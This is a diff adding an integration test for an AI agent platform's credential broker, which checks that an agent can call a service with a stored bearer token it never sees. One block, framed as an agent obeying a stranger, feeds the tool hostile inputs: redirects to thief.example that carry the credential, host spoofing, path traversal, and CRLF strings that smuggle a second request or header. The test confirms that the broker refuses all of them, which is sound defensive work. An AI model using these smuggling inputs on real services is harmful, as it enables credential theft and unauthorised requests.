@@ -1,0 +1,202 @@
+import type { IncomingMessage, ServerResponse } from 'node:http'
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
+import { askFor } from '../../agent/gateway/testing/played-bus.ts'
+import { say, Upstream } from '../../agent/gateway/testing/upstream.ts'
+import { call, type TestUser } from '../support/client.ts'
+import { type OwnStack, startOwnStack } from '../support/stack-process.ts'
+import { startTlsServer } from '../support/tls-server.ts'
+
+const value = 'a-credential-that-no-agent-reads'
+
+/** Does what it is told in JSON, a list of calls a round, and then answers. */
+const model = await Upstream.start()
+
+let stack: OwnStack
+let owner: TestUser
+let agentId: string
+let server: Awaited<ReturnType<typeof startTlsServer>>
+let host: string
+/** What the host was asked. */
+let seen: IncomingMessage[]
+let answer: (request: IncomingMessage, response: ServerResponse) => unknown
+
+interface Round {
+  name: string
+  given: unknown
+}
+
+model.reply = (response, { body: { messages } }) => {
+  const said = messages.findLastIndex(({ role }) => role === 'user')
+  const rounds = JSON.parse(messages[said]?.content ?? '[]') as Round[][]
+  const done = messages.slice(said).filter(({ role }) => role === 'assistant').length
+  const round = rounds[done]
+  if (round === undefined) return say(response, 'Done.')
+  const asked = round.map(({ name, given }, i) => ({ name, given, id: `call_${done}_${i}` }))
+  askFor(response, ...asked)
+}
+
+const web = (path: string, body?: unknown, method?: string) =>
+  call(`${stack.now().web}${path}`, {
+    headers: owner.session,
+    body,
+    ...(method !== undefined && { method }),
+  })
+
+/** Has the agent's model call tools, round by round. @returns what they said */
+async function turn(...rounds: Round[][]): Promise<Record<string, unknown>[]> {
+  const asked = await stack.chat(owner, { message: JSON.stringify(rounds), agentId })
+  expect([asked.status, asked.body.reply]).toEqual([200, 'Done.'])
+  const { messages } = model.lastCall.body
+  return messages
+    .slice(messages.findLastIndex(({ role }) => role === 'user'))
+    .filter(({ role }) => role === 'tool')
+    .map(({ content }) => JSON.parse(content) as Record<string, unknown>)
+}
+
+const ask = (given: object): Round => ({
+  name: 'call_service',
+  given: { service: 'shop', host, ...given },
+})
+
+const tools = () => {
+  const { tools: offered = [] } = model.lastCall.body as { tools?: { function: Round }[] }
+  return offered.map((tool) => tool.function.name).toSorted()
+}
+
+beforeAll(async () => {
+  server = await startTlsServer((request, response) => {
+    seen.push(request)
+    answer(request, response)
+  })
+  host = `localhost:${server.port}`
+  stack = await startOwnStack({
+    AI_BASE_URL: model.baseUrl,
+    AI_API_KEY: 'key-of-the-model',
+    FETCH_ALLOW_HOSTS: host,
+    NODE_EXTRA_CA_CERTS: server.certFile,
+  })
+  owner = await stack.newSubscriber()
+  agentId = await stack.runningAgent(owner)
+  const kept = { name: 'shop', hosts: [host], header: 'authorization: Bearer {value}', value }
+  expect((await web(`/api/agents/${agentId}/broker-credentials`, kept)).status).toBe(201)
+})
+afterAll(async () => {
+  await stack?.[Symbol.asyncDispose]()
+  await server.close()
+  await model[Symbol.asyncDispose]()
+})
+beforeEach(() => {
+  seen = []
+  answer = (_, response) => response.end('{"orders":["tea"]}')
+})
+
+it('an agent has none of the platform’s tools unless its config says so', async () => {
+  await turn()
+  expect(tools()).toEqual([])
+  const { status } = await web(`/api/agents/${agentId}/config`, { config: { mcp: true } }, 'PUT')
+  expect(status).toBe(200)
+  await stack.lifecycle(owner, agentId, 'restart')
+  await stack.untilStatus(owner, agentId, 'running')
+  await turn()
+  expect(tools()).toEqual([
+    'call_service',
+    'get_usage',
+    'list_services',
+    'manage_schedules',
+    'search_memory',
+    'write_memory',
+  ])
+})
+
+it('an agent asks a service by a credential that it cannot read, and keeps a note of the answer', async () => {
+  const results = await turn(
+    [{ name: 'list_services', given: {} }],
+    [ask({ path: '/orders?of=ann', headers: { 'x-trace': '1' } })],
+    [{ name: 'write_memory', given: { key: 'orders', text: 'She ordered tea.' } }],
+  )
+  expect(results).toEqual([
+    { result: { credentials: [{ name: 'shop', hosts: [host], createdAt: expect.any(String) }] } },
+    { result: { status: 200, headers: {}, body: '{"orders":["tea"]}', cut: false } },
+    { result: { key: 'orders', saved: true } },
+  ])
+  expect(seen).toMatchObject([
+    {
+      method: 'GET',
+      url: '/orders?of=ann',
+      headers: { authorization: `Bearer ${value}`, 'x-trace': '1' },
+    },
+  ])
+  expect((await web(`/api/memory?agentId=${agentId}`)).body.memory).toMatchObject({
+    orders: 'She ordered tea.',
+  })
+  const { requests } = (await web(`/api/agents/${agentId}/broker-requests`)).body
+  expect(requests).toMatchObject([{ name: 'shop', method: 'GET', host, status: 200, bytes: 18 }])
+  await turn()
+  expect(JSON.stringify(model.lastCall.body.messages[0])).toContain('She ordered tea.')
+  expect(JSON.stringify(model.calls)).not.toContain(value)
+})
+
+it('a service that is asked to do something is told it as it was said', async () => {
+  const bodies: string[] = []
+  answer = (request, response) => {
+    request.on('data', (part: Buffer) => bodies.push(String(part)))
+    request.on('end', () => response.writeHead(201, { location: '/orders/1' }).end())
+  }
+  const [said] = await turn([ask({ method: 'POST', path: '/orders', body: '{"of":"tea"}' })])
+  expect(said).toMatchObject({ result: { status: 201, headers: { location: '/orders/1' } } })
+  expect(bodies.join('')).toBe('{"of":"tea"}')
+  expect(seen[0]?.headers['content-type']).toBe('application/json')
+})
+
+describe('an agent that does what a stranger wrote', () => {
+  it('does not get the credential said back: not by an echo, in a header or by a redirect', async () => {
+    answer = ({ headers, url }, response) => {
+      const given = String(headers.authorization)
+      response.writeHead(302, { location: `https://thief.example/?${given}`, link: given })
+      response.end(JSON.stringify({ headers, url, given }))
+    }
+    const [said] = await turn([ask({ path: '/echo' })])
+    expect(said).toMatchObject({ result: { status: 302 } })
+    expect(JSON.stringify(said)).toContain('*'.repeat(value.length))
+    expect(seen).toHaveLength(1)
+    expect(JSON.stringify(model.calls)).not.toContain(value)
+  })
+
+  it.each<[string, object, RegExp]>([
+    ['another host', { host: 'thief.example' }, /BROKER_HOST_REFUSED/],
+    ['a host that only begins so', { host: 'localhost' }, /BROKER_HOST_REFUSED/],
+    ['a name before the host', { host: 'shop@thief.example' }, /BROKER_HOST_REFUSED/],
+    ['a path in the host', { host: 'localhost/../..' }, /list_services|segment|Not found/],
+    ['a path in the service', { service: 'shop/thief.example' }, /list_services/],
+    ['another credential', { service: 'other' }, /not found/i],
+    ['steps to another route', { path: '/../../../api/usage/events' }, /segment/],
+    ['encoded steps', { path: '/%2e%2e/%2e%2e/mcp' }, /segment/],
+    [
+      'a second request in the path',
+      { path: '/ HTTP/1.1\r\nhost: thief.example\r\n\r\n' },
+      /encoded/,
+    ],
+    ['a key of its own', { headers: { Authorization: 'Bearer x' } }, /not for you/],
+    ['another host’s name', { headers: { host: 'thief.example' } }, /not for you/],
+    ['a second header', { headers: { 'x-a': '1\r\nhost: thief.example' } }, /one line/],
+  ])('reaches nothing by %s', async (_, given, words) => {
+    const [said] = await turn([ask(given)])
+    expect(JSON.stringify(said)).toMatch(words)
+    expect(seen).toEqual([])
+  })
+
+  it('gets no more of an answer than a model reads, and nothing that is no text', async () => {
+    answer = (_, response) => response.end('é'.repeat(200_000))
+    const [long] = await turn([ask({})])
+    expect(JSON.stringify(long).length).toBeLessThan(14_000)
+    answer = (_, response) => response.end(Buffer.from([0xff, 0xfe, 0x00]))
+    expect(await turn([ask({})])).toMatchObject([{ result: { body: null } }])
+  })
+
+  it('has the tools no longer once its owner switches them off', async () => {
+    const path = `/api/agents/${agentId}/config?apply=false`
+    await web(path, { config: { mcp: null } }, 'PUT')
+    expect(await turn([ask({})])).toEqual([{ error: expect.stringContaining('403') }])
+    expect(seen).toEqual([])
+  })
+})
